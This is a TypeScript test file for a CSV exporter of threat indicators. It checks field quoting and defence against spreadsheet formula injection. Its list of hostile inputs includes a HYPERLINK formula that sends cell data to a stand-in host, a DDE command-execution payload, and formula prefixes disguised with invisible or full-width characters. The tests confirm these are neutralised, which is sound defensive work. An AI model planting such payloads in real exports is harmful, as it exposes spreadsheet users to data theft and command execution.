import { describe, expect, it } from "vitest";
import { csvField, indicatorsCsv } from "./csv";
import { fixtureReport } from "../../../test/research-report";

/** RFC 4180 as a spreadsheet or a SIEM reads it: CRLF-separated records, quoted fields with doubled quotes. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let field = "";
  let quoted = false;
  for (let index = 0; index < text.length; index++) {
    const char = text[index];
    if (quoted && char === '"' && text[index + 1] === '"') {
      field += '"';
      index++;
    } else if (char === '"' && (quoted || field === "")) {
      quoted = !quoted;
    } else if (quoted) {
      field += char;
    } else if (char === ",") {
      record.push(field);
      field = "";
    } else if (char === "\r" && text[index + 1] === "\n") {
      records.push([...record, field]);
      record = [];
      field = "";
      index++;
    } else {
      field += char;
    }
  }
  expect(quoted, "an unterminated quoted field").toBe(false);
  expect(record.length + field.length, "text after the last CRLF").toBe(0);
  return records;
}

// What a spreadsheet may read as a formula, written out here rather than taken from the code under test.
const FORMULA = /^[\s\p{Cc}\p{Cf}]*[=+\-@＝﹦＋－﹢＠]/u;

describe("indicators CSV", () => {
  it("quotes fields as RFC 4180 says, and only those that need it", () => {
    expect(csvField("192.0.2.1")).toBe("192.0.2.1");
    expect(csvField('C2, "primary"')).toBe('"C2, ""primary"""');
    expect(csvField("two\nlines")).toBe('"two\nlines"');
  });

  it("has the header and one CRLF-ended row per indicator, values exact (never defanged)", () => {
    const report = fixtureReport();
    const lines = indicatorsCsv(report).split("\r\n");
    expect(lines[0]).toBe("type,value,description,first_seen,last_seen,report");
    expect(lines.at(-1)).toBe("");
    expect(lines).toHaveLength(report.indicators.length + 2);
    expect(lines[1]).toBe(
      `ipv4,192.0.2.1,"C2, ""primary"", port 443",2026-01-05,2026-02-01,${report.url}`,
    );
    expect(lines[4]).toBe(`url,"https://c2.example/it's/a\\path?q=1,2",,,,${report.url}`);
    expect(parseCsv(indicatorsCsv(report)).map((record) => record[1])).toEqual([
      "value",
      ...report.indicators.map((indicator) => indicator.value),
    ]);
  });

  it("never lets an editor's description open as a formula, and leaves plain ones as written", () => {
    const hostile = [
      '=HYPERLINK("http://x.example/?"&A2,"x")',
      "=cmd|' /C calc'!A0",
      "+1",
      "-2+3",
      "@SUM(A1)",
      "\t=1",
      "\r=1",
      "\0=1",
      "   =1",
      "\u200b=1",
      "\ufeff@SUM(A1)",
      "\u3000+1",
      '＝HYPERLINK("http://x.example")',
      "﹦1",
      "﹢1",
      "＋1",
      "－1",
      "＠SUM(A1)",
      '=1,"2"\r\n=3',
    ];
    const plain = ["C2, port 443", "a 'quoted' word", "1-2 March", "mail to ops@x.example"];
    const report = fixtureReport({
      indicators: [...hostile, ...plain].map((description, index) => ({
        type: "domain",
        value: `host-${index}.example`,
        description,
      })),
    });
    const records = parseCsv(indicatorsCsv(report));
    expect(records).toHaveLength(hostile.length + plain.length + 1);
    for (const cell of records.flat()) expect(cell).not.toMatch(FORMULA);
    const descriptions = records.slice(1).map((record) => record[2]);
    // OWASP's neutralisation: a single quote first, the rest as the editor wrote it.
    expect(descriptions).toEqual([...hostile.map((text) => `'${text}`), ...plain]);
  });

  it("refuses to write a value a tool matches exactly rather than alter it", () => {
    const report = fixtureReport({ indicators: [{ type: "email", value: "=1@mail.example" }] });
    expect(() => indicatorsCsv(report)).toThrow(
      /"=1@mail.example" would open as a spreadsheet formula/,
    );
  });
});
